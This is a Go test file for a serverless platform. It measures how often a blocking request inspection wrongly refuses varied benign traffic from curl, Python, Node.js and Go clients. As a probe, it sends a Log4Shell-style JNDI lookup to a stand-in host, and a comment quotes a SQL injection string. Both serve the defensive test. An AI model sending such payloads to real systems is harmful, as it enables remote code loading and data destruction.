package examples

import (
	"bufio"
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"bawn.dev/bawn"
	"bawn.dev/bawn/bawntest"
	"bawn.dev/bawn/client"
	"bawn.dev/bawn/internal/manifest"
	"bawn.dev/bawn/internal/node"
)

// A request is what a client is told to send, and the answer that the example gives
// to it.
type request struct {
	ID     int               `json:"id"`
	Method string            `json:"method"`
	Path   string            `json:"path"` // with the query
	Header map[string]string `json:"header"`
	Body   []byte            `json:"body"`
	want   int
}

// A reply is what a client says of one.
type reply struct {
	ID     int    `json:"id"`
	Status int    `json:"status"`
	Body   string `json:"body"` // its beginning
}

// benign makes the requests of the examples' try.sh, with data that vary as those of
// people do. What is left out of a try.sh is what it sends to be refused, and an order
// of "'; drop table orders; --".
type benign struct {
	*rand.Rand
	key   string
	prose []string // lines of a book that nobody wrote with the rules in mind
}

func (b *benign) pick(all ...string) string { return all[b.IntN(len(all))] }

func (b *benign) name() string {
	return b.pick("Ada", "Grace", "Jürgen", "Siobhán", "Liam", "Zoë", "José", "Anne-Marie", "D'Arcy", "李小龙", "Олег", "Mary Jane") + " " +
		b.pick("Lovelace", "O'Brien", "Müller", "Nuñez", "van der Berg", "MacCarthy", "Łukasz", "d'Alembert", "Smith & Sons", "Union", "Drop", "Null")
}

func (b *benign) item() string {
	return b.pick("tea, first flush", "cup", "Mother's Day bouquet", "crème brûlée set (2)", "whiskey & soda", "voucher: 50% off", "pen; blue", "Tisch \"Malmö\"",
		"USB-C cable, 2 m", "shirt, size M/L", "C++ for beginners", "cat food", "select roast coffee", "table lamp", "union jack mug", "find the cat (game)", "床", "A4 paper #80")
}

func (b *benign) note() string {
	return b.pick("Leave it with the neighbour at number 7.", "Please call before 5 pm (or after 8).", "Gift: wrap it!", "50% off, as agreed",
		"It's for my sister; she turns 30.", "Order #1234 + 2 extra", "See https://shop.example/help?topic=returns", "Ring the bell & wait", "C'est parfait, merci.",
		"Two cups, or one pot?", "- one\n- two\n- three", b.name()+" is at o.brien+shop@example.org",
		"She said: \"Don't update the order!\"", "Grüße aus Köln, €5 sind dabei", "1 = one, 2 = two", "and/or; if not, then not")
}

// text is what somebody pastes into a form: notes, numbers, or lines of a book.
func (b *benign) text() string {
	if b.IntN(2) == 0 {
		from := b.IntN(len(b.prose) - 8)
		return strings.Join(b.prose[from:from+1+b.IntN(8)], "\n")
	}
	all := make([]string, 1+b.IntN(5))
	for i := range all {
		switch b.IntN(5) {
		case 0:
			all[i] = b.name() + " paid with 4111 1111 1111 1111."
		case 1:
			all[i] = fmt.Sprintf("The account is DE89 3704 0044 0532 0130 00, the number +353 21 555 01%02d.", b.IntN(100))
		default:
			all[i] = b.note()
		}
	}
	return strings.Join(all, b.pick(" ", "\n", "\n\n"))
}

// request makes the request with a number to one of the examples.
func (b *benign) request(id int, example string) request {
	r := request{ID: id, Method: "POST", Header: map[string]string{}, want: 200}
	if example != "hello" && example != "webhook" { // which are public
		r.Header["Authorization"] = "Bearer " + b.key
	}
	typed := func(kind string, body []byte) { r.Header["Content-Type"], r.Body = kind, body }
	asJSON := func(v any) {
		body, err := json.Marshal(v)
		if err != nil {
			panic(err) // the values are made here
		}
		typed("application/json", body)
	}
	switch example {
	case "hello":
		r.Method, r.Path = "GET", "/hello?"+url.Values{"name": {b.name()}}.Encode()
		if b.IntN(4) == 0 {
			r.Path = "/hello"
		}
	case "webhook":
		r.Path, r.want = "/webhook", 202
		asJSON(map[string]any{"type": b.pick("invoice.paid", "invoice.void", "customer.created", "union.select"), "id": "inv_" + strconv.Itoa(b.IntN(1e6)), "amount": b.IntN(1e5)})
		// A clock may be fast; so the last is fresh also where all of them take long.
		now := strconv.FormatInt(time.Now().Add(4*time.Minute).Unix(), 10)
		mac := hmac.New(sha256.New, []byte("demo-secret-not-for-production"))
		mac.Write([]byte(now + "."))
		mac.Write(r.Body)
		r.Header["X-Webhook-Signature"] = "t=" + now + ",v1=" + hex.EncodeToString(mac.Sum(nil))
	case "checkout":
		r.Path, r.want = "/checkout", 201
		items := make([]map[string]any, 1+b.IntN(4))
		for i := range items {
			items[i] = map[string]any{"name": b.item(), "cents": b.IntN(1e5), "count": 1 + b.IntN(9)}
		}
		asJSON(map[string]any{"id": "o-" + strconv.Itoa(b.IntN(1e6)), "items": items})
	case "orders":
		if b.IntN(3) == 0 {
			r.Method, r.Path, r.want = "GET", "/orders/"+strconv.Itoa(1e6+b.IntN(1e6)), 404
			break
		}
		r.Path, r.want = "/orders", 201
		asJSON(map[string]any{"item": b.item(), "quantity": 1 + b.IntN(1000)})
	case "payments":
		r.Path, r.want = "/payments", 201
		amount := b.IntN(5000)
		if amount == 0 {
			r.want = 400
		}
		asJSON(map[string]any{"amount": amount})
	case "redact":
		r.Path = "/redact"
		typed("text/plain", []byte(b.text()))
	case "text":
		r.Path = "/text/" + b.pick("slug", "count", "wrap", "wrap?width="+strconv.Itoa(10+b.IntN(90)))
		typed(b.pick("text/plain", "text/plain; charset=utf-8"), []byte(b.text()))
	case "export":
		r.Method, r.Path = "GET", "/export?rows="+strconv.Itoa(1+b.IntN(300))
	}
	return r
}

// A caller makes requests in the manner of one client.
type caller struct {
	name  string
	share int                                                              // of a hundred requests
	run   func(ctx context.Context, all []request, told func(reply)) error // ends with the first that has no answer
}

// callers are the clients of the examples. The last is in this process.
func callers(t *testing.T, n *bawntest.Node) []caller {
	t.Helper()
	env := append(os.Environ(), "BAWN_PUBLIC="+n.Context.Public, "BAWN_CA="+filepath.Join(n.Data, "ca.pem"), "NODE_EXTRA_CA_CERTS="+filepath.Join(n.Data, "ca.pem"))
	// program is a client that is told the requests and answers a line to each.
	program := func(stdin func([]request) ([]byte, error), told func(line []byte) (reply, error), name string, args ...string) func(context.Context, []request, func(reply)) error {
		return func(ctx context.Context, all []request, tell func(reply)) error {
			in, err := stdin(all)
			if err != nil {
				return err
			}
			cmd := exec.CommandContext(ctx, name, args...)
			cmd.Env, cmd.Stdin = env, bytes.NewReader(in)
			var stderr bytes.Buffer
			cmd.Stderr = &stderr
			out, err := cmd.StdoutPipe()
			if err != nil {
				return err
			}
			if err := cmd.Start(); err != nil {
				return err
			}
			for lines := bufio.NewScanner(out); lines.Scan(); {
				r, err := told(lines.Bytes())
				if err != nil {
					return fmt.Errorf("%q: %w", lines.Bytes(), err)
				}
				tell(r)
			}
			if err := cmd.Wait(); err != nil {
				return fmt.Errorf("%w: %s", err, stderr.Bytes())
			}
			return nil
		}
	}
	lines := func(all []request) ([]byte, error) {
		var b bytes.Buffer
		for e := json.NewEncoder(&b); len(all) > 0; all = all[1:] {
			if err := e.Encode(all[0]); err != nil {
				return nil, err
			}
		}
		return b.Bytes(), nil
	}
	parse := func(line []byte) (r reply, err error) { return r, json.Unmarshal(line, &r) }
	dir := t.TempDir()
	answer := func(id int) string { return filepath.Join(dir, strconv.Itoa(id)) }
	return []caller{
		// The client of each try.sh. One process makes many requests, by a file of options
		// in which each request has its own.
		{"curl", 40, program(func(all []request) ([]byte, error) {
			var b strings.Builder
			for i, r := range all {
				if i > 0 {
					b.WriteString("next\n")
				}
				// What Go quotes here curl reads alike: there are no characters of other kinds in it.
				fmt.Fprintf(&b, "silent\nshow-error\nmax-time = 60\ncacert = %q\noutput = %q\nurl = %q\n", filepath.Join(n.Data, "ca.pem"), answer(r.ID), n.Context.Public+r.Path)
				fmt.Fprintf(&b, "write-out = \"{\\\"id\\\":%d,\\\"status\\\":%%{http_code}}\\n\"\n", r.ID)
				for _, name := range slices.Sorted(maps.Keys(r.Header)) {
					fmt.Fprintf(&b, "header = %q\n", name+": "+r.Header[name])
				}
				if r.Method == "POST" {
					body := answer(r.ID) + ".body"
					if err := os.WriteFile(body, r.Body, 0o600); err != nil {
						return nil, err
					}
					fmt.Fprintf(&b, "data-binary = %q\n", "@"+body)
				}
			}
			return []byte(b.String()), nil
		}, func(line []byte) (reply, error) {
			r, err := parse(line)
			if err == nil {
				var body []byte
				body, err = os.ReadFile(answer(r.ID))
				r.Body = string(body[:min(300, len(body))])
			}
			return r, err
		}, "curl", "--disable", "--parallel", "--parallel-max", "2", "--config", "-")},
		{"Python", 15, program(lines, parse, "python3", "testdata/client.py")},
		{"Node.js", 25, program(lines, parse, "node", "testdata/client.mjs")},
		{"Go", 20, func(ctx context.Context, all []request, told func(reply)) error {
			for _, r := range all {
				req, err := http.NewRequestWithContext(ctx, r.Method, n.Context.Public+r.Path, bytes.NewReader(r.Body))
				if err != nil {
					return err
				}
				for name, value := range r.Header {
					req.Header.Set(name, value)
				}
				res, err := n.HTTP.Do(req)
				if err != nil {
					return err
				}
				body, err := io.ReadAll(res.Body)
				res.Body.Close()
				if err != nil {
					return err
				}
				told(reply{r.ID, res.StatusCode, string(body[:min(300, len(body))])})
			}
			return nil
		}},
	}
}

// attacked is what a caller reads whom the inspection refuses.
const attacked = "looks like an attack"

// blocks is an inspection that blocks at the first level, and excludes what one does
// that is nil or not.
func blocks(in *manifest.Inspection) *manifest.Inspection {
	out := &manifest.Inspection{Mode: bawn.InspectBlock, Level: 1}
	if in != nil {
		out.Exclude = in.Exclude
	}
	return out
}

// deployInspected deploys the examples that have something to be asked, and returns
// which have. All that comes in is inspected, also where the default is that it is not
// because callers have keys. What an example's manifest excludes stays so.
func deployInspected(t *testing.T, n *bawntest.Node, orders, ordersPort, charges, chargesPort string) map[string]bool {
	t.Helper()
	python, js := n.NeedRuntime(bawntest.Pythons()...), n.NeedRuntime(bawntest.Nodes()...)
	deployed := map[string]bool{}
	for dir, f := range all(t) {
		switch {
		case dir == "intruder", dir == "thumbnail": // not benign; its pictures are no text, and it says that it is not inspected
			continue
		case dir == "orders" && orders == "":
			t.Log("without orders: PostgreSQL is not installed (make setup)")
			continue
		}
		for name, spec := range f.Functions {
			switch spec.Runtime.Family() {
			case "python":
				spec.Runtime = python
			case "nodejs":
				spec.Runtime = js
			case "wasm":
				n.NeedRuntime(bawn.Wasm)
			}
			for i := range spec.Ingress.HTTP {
				spec.Ingress.HTTP[i].Inspect = blocks(spec.Ingress.HTTP[i].Inspect)
			}
			spec.Ingress.Event.Inspect = blocks(spec.Ingress.Event.Inspect)
			switch dir {
			case "hello": // has a sandbox for each call; what that costs is not asked here
				spec.Interior.Reuse.MaxAge = manifest.Duration(time.Hour)
			case "orders":
				db := spec.Egress.Databases["orders"]
				db.Postgres = strings.Replace(db.Postgres, ":54329", ":"+ordersPort, 1)
				spec.Egress.Databases["orders"] = db
			case "payments":
				charging(t, &spec, chargesPort)
			}
			deploy(t, n, name, spec, code(t, dir, spec))
		}
		deployed[dir] = true
	}
	if orders != "" {
		grant(t, n, orders)
	}
	grantKey(t, n, charges)
	return deployed
}

// serve runs what the examples orders and payments call.
func serve(t *testing.T, orders, charges string) {
	t.Helper()
	if orders != "" {
		if out, err := exec.Command("sh", "orders/postgres.sh", "start", orders).CombinedOutput(); err != nil {
			t.Fatalf("postgres.sh: %v\n%s", err, out)
		}
		t.Cleanup(func() {
			if out, err := exec.Command("sh", "orders/postgres.sh", "stop", orders).CombinedOutput(); err != nil {
				t.Errorf("postgres.sh: %v\n%s", err, out)
			}
		})
	}
	cmd := exec.Command("python3", "payments/api.py", "serve", charges)
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	if line, err := bufio.NewReader(out).ReadString('\n'); err != nil || !strings.Contains(line, "listening") {
		t.Fatalf("api.py: %q, %v", line, err)
	}
}

// Control D4: of ten thousand benign requests, which the clients of the examples make
// to routes of the examples, fewer than one in a thousand is refused by the inspection.
func TestD4BenignRequests(t *testing.T) {
	orders, ordersPort := database(t)
	charges, chargesPort := api(t)
	n := bawntest.NewNode(t, func(c *node.Config) {
		c.EgressAllow, c.EgressResolve = []string{"127.0.0.1:" + chargesPort}, []string{"api.payments.test=127.0.0.1"}
		ca := bawntest.MustRead(t, filepath.Join(charges, "ca.pem"))
		if orders != "" {
			c.EgressAllow, c.EgressResolve = append(c.EgressAllow, "127.0.0.1:"+ordersPort), append(c.EgressResolve, "db.example.test=127.0.0.1")
			ca = append(ca, bawntest.MustRead(t, filepath.Join(orders, "ca.pem"))...)
		}
		c.EgressCA = filepath.Join(t.TempDir(), "ca.pem")
		if err := os.WriteFile(c.EgressCA, ca, 0o600); err != nil {
			t.Fatal(err)
		}
	})
	deployed := deployInspected(t, n, orders, ordersPort, charges, chargesPort)
	serve(t, orders, charges)
	root, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	book := bawntest.MustRead(t, filepath.Join(strings.TrimSpace(string(root)), "src/testdata/Isaac.Newton-Opticks.txt"))
	b := &benign{Rand: rand.New(rand.NewPCG(7, 11)), key: n.MustKey(bawn.RoleInvoker), prose: strings.Split(strings.ReplaceAll(string(book), "\r", ""), "\n")}
	clients := callers(t, n)

	// Of a hundred requests to each; less to those that take long to answer. Each refuses
	// an attack, or it would not count what it lets in.
	shares := map[string]int{"webhook": 25, "text": 25, "hello": 22, "checkout": 15, "redact": 6, "export": 4, "orders": 2, "payments": 1}
	var every []string
	for _, example := range slices.Sorted(maps.Keys(shares)) {
		if !deployed[example] {
			continue
		}
		every = append(every, slices.Repeat([]string{example}, shares[example])...)
		r := b.request(0, example)
		r.Header["X-Note"] = "${jndi:ldap://x.example/a}"
		err := clients[len(clients)-1].run(t.Context(), []request{r}, func(got reply) {
			if got.Status != http.StatusForbidden || !strings.Contains(got.Body, attacked) {
				t.Errorf("%s does not inspect what comes in: %+v", example, got)
			}
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	b.Shuffle(len(every), func(i, j int) { every[i], every[j] = every[j], every[i] })
	began := time.Now()

	const total = 10_000
	requests := make([]request, total)
	for id := range requests {
		requests[id] = b.request(id, every[id%len(every)])
	}
	var mu sync.Mutex
	var group sync.WaitGroup
	refused, wrong := map[int]reply{}, 0
	answered := make(map[int]bool, total)
	left := requests
	for _, c := range clients {
		mine := left[:total*c.share/100]
		left = left[len(mine):]
		group.Go(func() {
			start := time.Now()
			err := c.run(t.Context(), mine, func(got reply) {
				mu.Lock()
				defer mu.Unlock()
				if got.ID < 0 || got.ID >= total || answered[got.ID] {
					t.Errorf("%s: an answer to no request: %+v", c.name, got)
					return
				}
				answered[got.ID] = true
				switch r := requests[got.ID]; {
				case got.Status == http.StatusForbidden && strings.Contains(got.Body, attacked):
					refused[got.ID] = got
					t.Logf("%s: %s %s %q is refused", c.name, r.Method, r.Path, r.Body)
				case got.Status != r.want:
					if wrong++; wrong <= 10 {
						t.Errorf("%s: %s %s %q: %+v, want status %d", c.name, r.Method, r.Path, r.Body, got, r.want)
					}
				}
			})
			if err != nil {
				t.Errorf("%s: %v", c.name, err)
			}
			t.Logf("%s: %d requests in %v", c.name, len(mine), time.Since(start).Round(time.Second))
		})
	}
	group.Wait()
	// Records say why, also of what was refused on the way from one function to another.
	rules := map[string]int{}
	q := client.EventQuery{Kinds: []bawn.RecordKind{bawn.KindDecision}, Since: began, Limit: 10_000}
	if err := n.Events(t.Context(), q, func(r bawn.Record) error {
		if r.Control == "D4" {
			rules[r.Function+": "+r.Reason+" "+r.Detail["rules"]]++
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d of %d benign requests are refused, %d answers are not the examples' own, after %v: %v", len(refused), len(answered), wrong, time.Since(began).Round(time.Second), rules)
	if len(answered) != total || wrong > 0 || len(refused)*1000 >= total {
		t.Errorf("of %d requests %d are answered, %d of them otherwise than the examples do, and %d refused by the inspection", total, len(answered), wrong, len(refused))
	}
}
